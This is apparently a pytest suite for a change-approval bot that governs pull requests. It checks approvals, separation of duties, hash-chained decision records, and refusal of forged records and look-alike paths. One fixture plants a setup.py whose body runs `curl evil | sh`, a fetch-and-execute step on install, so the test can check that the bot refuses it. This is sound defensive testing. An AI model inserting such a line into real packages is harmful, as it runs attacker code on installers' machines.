"""The lifecycle scenarios, run on the sandbox forge and on the GitHub forge: one behaviour for both."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.domain.comments import MARKER
from bot.domain.rules import records
from bot.domain.rules.trailers import from_message
from tests.both_forges import FORGES, Cab, assert_audits_clean, make_cab, record_of
from tests.sandbox import DATA, HIGH, LOW, MEDIUM

LOW_RECORD = "decisions/low/2026-11/payments-api-7.4.2.yaml"
MEDIUM_RECORD = "decisions/medium/2026-11/identity-gateway-3.0.0.yaml"
HIGH_RECORD = "decisions/high/2026-11/edge-proxy-hotfix.yaml"
EXCEPTION_RECORD = "decisions/exceptions/2026-11/edge-proxy-nghttp2.yaml"
EXPIRES = dt.datetime(2026, 12, 19, 8, 0, tzinfo=dt.UTC)  # edge-proxy-nghttp2's expires_at


@pytest.fixture(params=FORGES)
def cab(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Cab]:
    """A CAB repository on each forge; whatever a scenario did, its history must audit clean."""
    for made in make_cab(request.param, tmp_path):
        yield made
        assert_audits_clean(made, tmp_path / "audit.txt")


def test_low_change_is_auto_approved_and_merged_with_trailers(cab: Cab) -> None:
    result = cab.sync(cab.submit(LOW))
    assert (result.status, result.outcome, result.tier) == ("merged", "auto_approved", "low")
    record = record_of(cab, LOW_RECORD)
    assert (record.outcome, record.previous) == ("auto_approved", None)
    trailers = from_message(cab.main_message())
    assert trailers is not None
    assert (trailers.decision, trailers.change, trailers.tier, trailers.risk_score) == (
        "auto_approved",
        "payments-api-7.4.2",
        "low",
        "4.00",
    )
    assert trailers.evidence_sha256 == record.evidence.sha256
    assert trailers.record_sha256 == records.record_sha256(cab.main_file(LOW_RECORD) or b"")


def test_medium_change_waits_with_one_risk_label_one_comment_and_a_pending_record(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    assert cab.sync(number).status == "pending"
    pr = cab.pr(number)
    assert pr.labels == ("risk:medium",)
    [body] = cab.comments(number)
    assert "needs 1 approval from @example/cab" in body
    assert cab.status(pr.head_sha) == "pending"
    raw = cab.main_file(MEDIUM_RECORD)
    assert raw is None  # nothing decided on main yet
    assert pr.state == "open"


def test_sync_twice_writes_nothing_the_second_time(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    first = cab.sync(number)
    before = cab.writes()
    second = cab.sync(number)
    assert (second.status, second.head_sha) == ("pending", first.head_sha)
    assert cab.writes() == before


def test_cab_approval_on_the_head_merges_with_the_approval_snapshot(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    reviewed = cab.sync(number).head_sha
    review_id = cab.review(number, "bob-cab")
    result = cab.sync(number)
    assert (result.status, result.outcome) == ("merged", "approved")
    record = record_of(cab, MEDIUM_RECORD)
    [approval] = record.approvals
    assert (approval.login, approval.review_id, approval.reviewed_sha) == ("bob-cab", review_id, reviewed)
    assert (approval.team, approval.team_members) == (
        "example/cab",
        ["bob-cab", "carol-cab", "dependabot[bot]"],
    )
    assert approval.evidence_sha256 == record.evidence.sha256
    trailers = from_message(cab.main_message())
    assert trailers is not None and trailers.approved_by == (f"bob-cab ({approval.user_id})",)


def test_push_after_approval_makes_it_stale(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    cab.sync(number)
    cab.review(number, "bob-cab")
    cab.push(number, {MEDIUM: cab.example(MEDIUM).replace(b"coverage_percent: 64", b"coverage_percent: 66")})
    assert cab.sync(number).status == "pending"
    assert "approval is stale" in cab.comments(number)[0]


def test_approval_given_before_the_bots_pending_record_still_counts(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    before_record = cab.pr(number).head_sha
    cab.sync(number)
    cab.review(number, "bob-cab", on=before_record)
    result = cab.sync(number)
    assert (result.status, result.outcome) == ("merged", "approved")
    assert record_of(cab, MEDIUM_RECORD).approvals[0].reviewed_sha == before_record


def test_approval_given_before_a_human_push_is_stale(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    reviewed = cab.pr(number).head_sha
    cab.push(number, {"evidence/2026-11/identity-gateway-3.0.0/notes.md": b"later\n"})  # an attachment
    cab.sync(number)
    cab.review(number, "bob-cab", on=reviewed)
    assert cab.sync(number).status == "pending"


def test_approval_by_the_pr_author_does_not_count(cab: Cab) -> None:
    number = cab.submit(MEDIUM, author="bob-cab")
    cab.sync(number)
    cab.review(number, "bob-cab")
    assert cab.sync(number).status == "pending"
    assert "is the PR author" in cab.comments(number)[0]


def test_approval_by_an_author_of_one_of_the_prs_commits_does_not_count(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    cab.push(number, {MEDIUM: cab.example(MEDIUM).replace(b"failed: 1", b"failed: 0")}, author="carol-cab")
    cab.sync(number)
    cab.review(number, "carol-cab")
    assert cab.sync(number).status == "pending"
    assert "is the author of commit" in cab.comments(number)[0]


def test_a_bot_in_the_team_never_approves(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    cab.sync(number)
    cab.review(number, "dependabot[bot]")
    assert cab.sync(number).status == "pending"


def test_high_change_needs_security_and_an_approved_exception(cab: Cab) -> None:
    number = cab.submit(HIGH)
    cab.sync(number)
    cab.review(number, "sec-sam")
    assert cab.sync(number).summary.startswith("needs an active exception")
    exception = cab.approve_exception()
    assert (exception.status, exception.outcome) == ("merged", "approved")
    result = cab.sync(number)
    assert (result.status, result.outcome) == ("merged", "approved")
    assert [e.id for e in record_of(cab, HIGH_RECORD).exceptions] == ["edge-proxy-nghttp2"]


def test_reject_command_is_recorded_and_merged(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    cab.sync(number)
    cab.comment(number, "carol-cab", "/cab reject rollback was never rehearsed")
    result = cab.sync(number)
    assert (result.status, result.outcome) == ("merged", "rejected")
    assert record_of(cab, MEDIUM_RECORD).rationale.endswith("rollback was never rehearsed")


def test_reject_command_from_someone_outside_the_team_changes_nothing(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    cab.sync(number)
    cab.comment(number, "mallory", "/cab reject no")
    assert cab.sync(number).status == "pending"


def test_decided_change_cannot_be_edited_by_a_new_pr(cab: Cab) -> None:
    cab.sync(cab.submit(LOW))
    edited = cab.example(LOW).replace(b"affected_users: 80", b"affected_users: 90")
    result = cab.sync(cab.submit(LOW, branch="change/again", content=edited))
    assert result.status == "refused"
    assert "Already decided" in result.summary


def test_pr_touching_another_decision_record_is_refused(cab: Cab) -> None:
    number = cab.submit(MEDIUM, extra={"decisions/low/2026-11/other-change.yaml": b"forged"})
    result = cab.sync(number)
    assert result.status == "refused"
    assert "only the bot writes under decisions/" in result.summary
    assert cab.status(cab.pr(number).head_sha) == "failure"


def test_pr_editing_a_released_risk_model_is_refused_at_once(cab: Cab) -> None:
    """Decisions re-verify under the model version they name: that file never changes (issue 12)."""
    model = (DATA / "risk-model" / "v1.0.yaml").read_bytes().replace(b"low_max: 50", b"low_max: 99")
    assert b"low_max: 99" in model
    number = cab.submit(LOW, extra={"risk-model/v1.0.yaml": model})
    result = cab.sync(number)
    assert result.status == "refused"
    assert "risk-model/v1.0.yaml: a released risk model is never edited" in result.summary
    assert cab.pr(number).state == "open"


def test_pr_smuggling_an_exception_decision_is_refused(cab: Cab) -> None:
    """A forged `decisions/exceptions/` record would make an exception look approved on main."""
    number = cab.submit(LOW, extra={"decisions/exceptions/2026-11/forged.yaml": b"forged"})
    result = cab.sync(number)
    assert result.status == "refused"
    assert "decisions/exceptions/2026-11/forged.yaml" in result.summary
    assert cab.pr(number).state == "open"


def test_invalid_evidence_is_reported_with_its_line_and_not_merged(cab: Cab) -> None:
    bad = cab.example(MEDIUM).replace(b"complexity: high", b"complexity: extreme")
    number = cab.submit(MEDIUM, content=bad)
    result = cab.sync(number)
    assert result.status == "invalid"
    assert result.problems[0].line > 1 and "complexity" in result.problems[0].message
    assert cab.pr(number).state == "open"


def test_a_change_mixed_with_a_policy_path_is_refused_naming_the_path(cab: Cab) -> None:
    """CODEOWNERS is outside a change's allow-list: decided as neither, never merged (issue 13)."""
    number = cab.submit(LOW, extra={".github/CODEOWNERS": b"* @example/cab\n"})
    result = cab.sync(number)
    assert result.status == "refused"
    assert ".github/CODEOWNERS: outside this pull request's allow-list" in result.summary
    assert "needs CAB and security approval" in bot_comment(cab, number)
    assert cab.status(cab.pr(number).head_sha) == "failure"
    assert cab.pr(number).state == "open"


def test_a_low_pack_with_a_root_setup_py_is_not_auto_merged(cab: Cab) -> None:
    """Paths that are not policy by name but run code (`pip install .`) are outside the allow-list."""
    number = cab.submit(LOW, extra={"setup.py": b"import os\nos.system('curl evil | sh')\n"})
    result = cab.sync(number)
    assert result.status == "refused"
    assert "setup.py: outside this pull request's allow-list" in result.summary
    assert cab.pr(number).state == "open"
    assert cab.main_file("setup.py") is None


def test_a_change_may_bring_attachments_in_its_own_folder(cab: Cab) -> None:
    number = cab.submit(LOW, extra={"evidence/2026-11/payments-api-7.4.2/trivy.json": b"{}\n"})
    assert cab.sync(number).outcome == "auto_approved"
    assert cab.main_file("evidence/2026-11/payments-api-7.4.2/trivy.json") == b"{}\n"


def test_attachments_of_another_change_are_refused(cab: Cab) -> None:
    number = cab.submit(LOW, extra={"evidence/2026-11/identity-gateway-3.0.0/trivy.json": b"{}\n"})
    result = cab.sync(number)
    assert result.status == "refused"
    assert "attachments belong in the folder of this pull request's evidence pack" in result.summary


def test_two_prs_decided_one_after_another_keep_the_hash_chain(cab: Cab) -> None:
    first, second = cab.submit(LOW), cab.submit(MEDIUM)
    cab.sync(second)
    cab.review(second, "bob-cab")
    cab.sync(first)
    assert cab.sync(second).status == "merged"
    low = cab.main_file(LOW_RECORD)
    assert low is not None
    assert record_of(cab, MEDIUM_RECORD).previous == records.record_sha256(low)


def test_a_change_decided_after_an_exception_decision_links_to_its_record(cab: Cab) -> None:
    """The chain runs through exception decisions too; the `cab` fixture then audits the history
    (on GitHub this once recorded `previous: None` and the audit found the chain broken)."""
    cab.approve_exception()
    assert cab.sync(cab.submit(LOW)).status == "merged"
    exception_record = cab.main_file(EXCEPTION_RECORD)
    assert exception_record is not None
    assert record_of(cab, LOW_RECORD).previous == records.record_sha256(exception_record)


def test_an_exception_decision_records_who_wrote_the_exception(cab: Cab) -> None:
    cab.approve_exception(requester="alice-eng")
    raw = cab.main_file(EXCEPTION_RECORD)
    assert raw is not None
    authors = {
        a.user_id: a.why for a in records.parse_exception_decision(raw, EXCEPTION_RECORD).model.authors
    }
    assert authors[cab.user_id("alice-eng")] == "is the PR author"


def test_rerun_after_a_crash_between_record_commit_and_merge_converges(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    cab.sync(number)
    cab.review(number, "bob-cab")
    cab.sync_crashing_before_merge(number)
    crashed_head = cab.pr(number).head_sha
    assert cab.pr(number).state == "open"
    result = cab.sync(number)
    assert (result.status, result.head_sha) == ("merged", crashed_head)  # the record is reused
    assert cab.pr(number).state == "merged"


def test_expiry_sweep_opens_one_issue_and_updates_it_on_rerun(cab: Cab) -> None:
    cab.approve_exception()
    first = cab.sweep(EXPIRES - dt.timedelta(days=3))
    assert [s.id for s in first.expiring] == ["edge-proxy-nghttp2"]
    [(number, _, body)] = cab.issues()
    assert first.issue == number and "### Expiring within 7 days (1)" in body
    second = cab.sweep(EXPIRES + dt.timedelta(days=1))
    assert [s.id for s in second.expired] == ["edge-proxy-nghttp2"]
    [(again, _, body)] = cab.issues()
    assert second.issue == again == number
    assert "### Expired (1)" in body


def test_expiry_sweep_repeated_unchanged_writes_nothing(cab: Cab) -> None:
    cab.approve_exception()
    moment = EXPIRES - dt.timedelta(days=3)
    cab.sweep(moment)
    before = cab.writes()
    cab.sweep(moment)
    assert cab.writes() == before


# -- separation of duties (issue 13) ------------------------------------------------------------


def bot_comment(cab: Cab, number: int) -> str:
    [found] = [body for body in cab.comments(number) if MARKER in body]
    return found


QUOTED_REJECTS = {
    "fenced-backticks": "Example:\n\n```\n/cab reject rollback was never rehearsed\n```\n",
    "fenced-tildes": "Example:\n\n~~~\n/cab reject rollback was never rehearsed\n~~~\n",
    "indented-spaces": "Example:\n\n    /cab reject rollback was never rehearsed\n",
    "indented-tab": "Example:\n\n\t/cab reject rollback was never rehearsed\n",
    "block-quote": "> /cab reject rollback was never rehearsed\n\nI disagree with this.\n",
    "quote-lazy-line": "> alice wrote:\n/cab reject rollback was never rehearsed\n",
}


@pytest.mark.parametrize("body", QUOTED_REJECTS.values(), ids=QUOTED_REJECTS.keys())
def test_a_quoted_or_code_reject_by_an_owner_is_not_a_command_and_the_comment_says_so(
    cab: Cab, body: str
) -> None:
    number = cab.submit(MEDIUM)
    cab.sync(number)
    cab.comment(number, "carol-cab", body)
    assert cab.sync(number).status == "pending"
    comment = bot_comment(cab, number)
    assert "Commands ignored" in comment
    assert "@carol-cab's `/cab reject` on line" in comment


def test_a_quoted_conditions_line_does_not_put_conditions_on_the_record(cab: Cab) -> None:
    number = cab.submit(MEDIUM)
    cab.sync(number)
    cab.comment(number, "carol-cab", "> /cab conditions none at all\n\nLooks fine to me.\n")
    cab.review(number, "bob-cab")
    result = cab.sync(number)
    assert (result.status, result.outcome) == ("merged", "approved")
    assert record_of(cab, MEDIUM_RECORD).conditions == []


LOOKALIKE_FOLDERS = {
    "dotless-i": "ev\u0131dence/2026-11/notes.yaml",
    "fullwidth-d": "\uff44ecisions/low/2026-11/payments-api-7.4.2.yaml",
    "small-capital-d": "\u1d05ecisions/low/2026-11/payments-api-7.4.2.yaml",
    "digit-one-for-l": "po1icy/signers.yaml",
    "not-ascii": "\u6587\u6863/readme.md",
}


@pytest.mark.parametrize("path", LOOKALIKE_FOLDERS.values(), ids=LOOKALIKE_FOLDERS.keys())
def test_a_look_alike_or_non_ascii_top_level_folder_is_refused(cab: Cab, path: str) -> None:
    number = cab.submit(LOW, extra={path: b"kind: Decision\n"})
    result = cab.sync(number)
    assert result.status == "refused"
    assert "looks like" in result.summary or "is not ASCII" in result.summary
    assert result.summary.isascii()  # escaped (\u0131), so a look-alike shows as one
    assert cab.status(cab.pr(number).head_sha) == "failure"
    assert cab.pr(number).state == "open"


IRREGULAR = {
    "symlink": ("120000", b"../../README.md", "is a symlink"),
    "executable": ("100755", None, "is executable"),
    "submodule": ("160000", b"5" * 40, "is a submodule"),
}


@pytest.mark.parametrize(("mode", "content", "said"), IRREGULAR.values(), ids=IRREGULAR.keys())
def test_evidence_that_is_no_plain_file_is_refused_with_a_comment_and_a_failing_status(
    cab: Cab, mode: str, content: bytes | None, said: str
) -> None:
    number = cab.submit(LOW, content=b"placeholder\n")
    head = cab.push_entry(number, LOW, mode, content if content is not None else cab.example(LOW))
    result = cab.sync(number)
    assert result.status == "refused"
    assert f"{LOW} {said}" in result.summary
    assert "Governed files must be regular files" in bot_comment(cab, number)
    assert cab.status(head) == "failure"


def test_a_final_record_the_pr_author_pushed_is_refused_and_never_reused(cab: Cab) -> None:
    """Only the bot writes records (issue 13): a record a person pushed refuses the PR until the
    bot's own is back, and its bytes are never merged."""
    number = cab.submit(MEDIUM)
    cab.sync(number)
    cab.comment(number, "carol-cab", "/cab conditions deploy outside business hours only")
    cab.review(number, "bob-cab")
    cab.sync_crashing_before_merge(number)  # the bot's final record is on the head, not merged
    head = cab.pr(number).head_sha
    ours = cab.read_head(number, MEDIUM_RECORD)
    assert b"deploy outside business hours only" in ours
    forged = ours.replace(b"deploy outside business hours only", b"none")
    cab.push(number, {MEDIUM_RECORD: forged})
    assert cab.pr(number).head_sha != head
    result = cab.sync(number)
    assert result.status == "refused"
    assert f"{MEDIUM_RECORD}: written by commit" in result.summary
    assert "not by the bot; only the bot writes records" in bot_comment(cab, number)
    assert cab.status(cab.pr(number).head_sha) == "failure"
    assert cab.pr(number).state == "open"
    assert cab.main_file(MEDIUM_RECORD) is None
